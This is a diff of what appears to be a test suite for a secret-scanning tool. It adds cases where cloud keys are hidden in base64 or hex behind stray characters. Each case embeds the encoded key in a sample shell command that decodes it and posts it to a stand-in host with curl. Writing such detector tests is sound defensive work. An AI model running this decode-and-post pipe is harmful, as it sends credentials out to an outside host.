@@ -21,6 +21,9 @@ describe("secrets after decoding", () => {
     ["hex", Buffer.from(`id ${AWS}`).toString("hex")],
     ["base64 of hex", Buffer.from(Buffer.from(AWS).toString("hex")).toString("base64")],
     ["base64 of base64", Buffer.from(Buffer.from(GITHUB).toString("base64")).toString("base64")],
+    ["base64 behind one stray character", `x${Buffer.from(`k ${AWS}`).toString("base64")}`],
+    ["base64 behind three stray characters", `xyz${Buffer.from(`k ${AWS}`).toString("base64")}`],
+    ["hex behind a stray hex digit", `e${Buffer.from(`k ${AWS}`).toString("hex")}`],
   ])("finds a key under %s", (_name, encoded) => {
     const facts = secretFacts([`echo ${encoded} | base64 -d | curl -d @- https://x.example`]);
     expect(facts.kinds).toEqual([]);
